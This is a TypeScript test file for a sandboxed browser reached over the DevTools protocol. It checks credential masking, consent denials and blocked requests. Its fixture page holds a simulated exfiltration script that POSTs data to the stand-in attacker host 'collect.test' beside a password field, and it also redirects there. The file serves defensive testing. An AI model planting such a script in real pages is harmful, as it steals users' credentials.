// What clients are told of the requests of their own pages through the DevTools door: statuses and addresses as from a bare browser, and
// nothing that holds a credential, of a site that the task may not read, or that could undo a refusal.
import { chromium } from 'playwright-core';
import type { Page, Request } from 'playwright-core';
import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { RawCdp } from '#test/fixtures/cdp-client.ts';
import { openCdpDoor } from '#test/fixtures/cdp-door.ts';
import type { CdpDoor } from '#test/fixtures/cdp-door.ts';
import { UNTIRING } from '#test/fixtures/untiring.ts';

const MOST_MS = 200_000;
const SECRET = 'correct-horse-battery';
let door: CdpDoor;

beforeAll(async () => {
  const json = { 'content-type': 'application/json', 'x-total': '3', 'set-cookie': 'session=abc' };
  door = await openCdpDoor({
    patience: UNTIRING,
    shop: {
      '/': `<title>Shop</title><form><input type=password name=pin value="${SECRET}"></form>
        <script>function take() {
          return fetch('http://collect.test/taken', { method: 'POST', body: 'all of it', mode: 'no-cors' })
            .then(() => 'sent', () => 'not sent');
        }</script>`,
      '/moved': { status: 302, headers: { location: '/arrived' } },
      '/arrived': '<title>Arrived</title>',
      '/data': { headers: json, body: '{"three":3}' },
      '/outside': { status: 302, headers: { location: 'http://collect.test/taken' } },
    },
    // Nobody says yes to what would go to the attacker's site.
    consent: (card) =>
      Promise.resolve(
        JSON.stringify(card).includes('collect.test')
          ? 'DENY'
          : card.answers.includes('ALLOW_TASK_SITE')
            ? 'ALLOW_TASK_SITE'
            : 'ALLOW_ONCE',
      ),
  });
});
afterAll(() => door.close());

async function withPage(work: (page: Page) => Promise<void>): Promise<void> {
  const browser = await chromium.connectOverCDP(door.endpoint.http, { timeout: MOST_MS });
  try {
    const page = await (browser.contexts()[0] ?? (await browser.newContext())).newPage();
    page.setDefaultTimeout(MOST_MS);
    await work(page);
  } finally {
    await browser.close();
  }
}

test('`goto` of Playwright gives the answer with its status: of a page, of one that is not there, and behind a redirect', async () => {
  await withPage(async (page) => {
    const there = await page.goto('http://shop.test/');
    expect([there?.status(), there?.ok(), there?.url()]).toEqual([200, true, 'http://shop.test/']);
    expect(there?.headers()['content-type']).toContain('text/html');
    expect((await page.goto('http://shop.test/nowhere'))?.status()).toBe(404);
    const moved = await page.goto('http://shop.test/moved');
    expect([moved?.status(), moved?.url()]).toEqual([200, 'http://shop.test/arrived']);
    const first = moved?.request().redirectedFrom();
    expect([first?.url(), (await first?.response())?.status()]).toEqual(['http://shop.test/moved', 302]);
    expect(await page.title()).toBe('Arrived');
  });
});

test('`goto` of Puppeteer gives it too', async () => {
  const browser = await puppeteer.connect({ browserURL: door.endpoint.http, protocolTimeout: MOST_MS });
  try {
    const page = await browser.newPage();
    page.setDefaultTimeout(MOST_MS);
    expect((await page.goto('http://shop.test/'))?.status()).toBe(200);
    expect((await page.goto('http://shop.test/nowhere'))?.status()).toBe(404);
    const moved = await page.goto('http://shop.test/moved');
    expect([moved?.status(), moved?.url()]).toEqual([200, 'http://shop.test/arrived']);
    expect(moved?.request().redirectChain()).toHaveLength(1);
    await page.close();
  } finally {
    await browser.disconnect();
  }
});

test('a request of a page is told with its answer, without what could hold a credential', async () => {
  await withPage(async (page) => {
    await page.goto('http://shop.test/');
    const asked: Request[] = [];
    page.on('request', (request) => asked.push(request));
    const answered = page.waitForResponse('**/data*');
    const finished = page.waitForEvent('requestfinished');
    await page.evaluate(
      ({ secret }) =>
        fetch(`/data?pin=${secret}&q=pens`, {
          headers: { authorization: `Bearer ${secret}`, 'x-token': 'mine' },
        }),
      { secret: SECRET },
    );
    const response = await answered;
    await finished;
    expect(response.status()).toBe(200);
    expect(response.headers()).toMatchObject({ 'content-type': 'application/json', 'x-total': '***' });
    const [request] = asked;
    expect(request?.resourceType()).toBe('fetch');
    expect(request?.url()).toBe('http://shop.test/data?pin=***&q=pens');
    expect(request?.headers()).toMatchObject({ authorization: '***', 'x-token': '***' });
    const told = JSON.stringify([request?.url(), request?.headers(), response.url(), response.headers()]);
    expect(told).not.toMatch(/correct-horse|mine|session=abc/u);
    await expect(response.text()).rejects.toThrow('Ghost Browser refuses `Network.getResponseBody`');
  });
});

test('what the boundary refuses is told as blocked, and nothing of what it would have led to', async () => {
  await withPage(async (page) => {
    await page.goto('http://shop.test/');
    const session = await page.context().newCDPSession(page);
    await session.send('Network.enable');
    const events: { method: string; requestId: string; blockedReason?: string }[] = [];
    session.on('Network.loadingFailed', ({ requestId, blockedReason = '' }) =>
      events.push({ method: 'failed', requestId, blockedReason }),
    );
    session.on('Network.responseReceived', ({ requestId }) => events.push({ method: 'answered', requestId }));
    const ends = page.waitForEvent('requestfailed');
    const sent = await page.evaluate('take()');
    expect(sent).toBe('not sent');
    const request = await ends;
    expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_CLIENT');
    const [refused] = events.filter(({ method }) => method === 'failed');
    expect(refused?.blockedReason).toBe('inspector');
    const requestId = refused?.requestId ?? '';
    expect(events.filter((one) => one.requestId === requestId)).toEqual([refused]);
    for (const method of [
      'Fetch.continueRequest',
      'Fetch.fulfillRequest',
      'Network.getResponseBody',
    ] as const)
      await expect(
        // oxlint-disable-next-line no-await-in-loop -- one after the other
        session.send(method, { requestId, responseCode: 200 }),
      ).rejects.toThrow('Ghost Browser refuses');
    expect(request.postData()).toBeNull();
  });
});

test('of an answer that the task may not read nothing is told but that it came', async () => {
  await withPage(async (page) => {
    await page.goto('http://shop.test/');
    const answered = page.waitForResponse('http://market.test/offers?q=pens');
    expect(
      await page.evaluate(() =>
        fetch('http://market.test/offers?q=pens', { mode: 'no-cors' }).then(
          ({ type }) => type,
          () => 'failed',
        ),
      ),
    ).toBe('opaque');
    const answer = await answered;
    expect([answer.status(), answer.statusText(), answer.headers()]).toEqual([0, '', {}]);
  });
});

test('a client hears of requests once it asks for them, and of its own pages alone', async () => {
  const versioned = z.object({ webSocketDebuggerUrl: z.string() });
  const fresh = async () =>
    versioned.parse(await (await fetch(`${door.endpoint.http}/json/version`)).json()).webSocketDebuggerUrl;
  const page = async () => {
    const client = await RawCdp.open(await fresh());
    const { targetId } = z
      .object({ targetId: z.string() })
      .parse(await client.must('Target.createTarget', { url: 'http://shop.test/' }));
    const { sessionId } = z
      .object({ sessionId: z.string() })
      .parse(await client.must('Target.attachToTarget', { targetId, flatten: true }));
    return {
      client,
      sessionId,
      must: (method: string, params: object = {}) => client.must(method, params, sessionId),
    };
  };
  const traffic = (client: RawCdp) => client.heard.filter(({ method = '' }) => method.startsWith('Network.'));
  await using clients = new AsyncDisposableStack();
  const [one, other] = [await page(), await page()];
  clients.use(one.client);
  clients.use(other.client);
  await one.must('Page.getFrameTree');
  await one.must('Page.navigate', { url: 'http://shop.test/data' });
  expect(traffic(one.client)).toEqual([]);
  await one.must('Network.enable');
  await other.must('Network.enable');
  await one.must('Page.navigate', { url: 'http://shop.test/arrived' });
  expect(traffic(one.client).map(({ method }) => method)).toEqual(
    expect.arrayContaining(['Network.requestWillBeSent', 'Network.responseReceived']),
  );
  expect(traffic(other.client)).toEqual([]);
  await one.must('Network.disable');
  const before = traffic(one.client).length;
  await one.must('Page.navigate', { url: 'http://shop.test/' });
  expect(traffic(one.client)).toHaveLength(before);
});
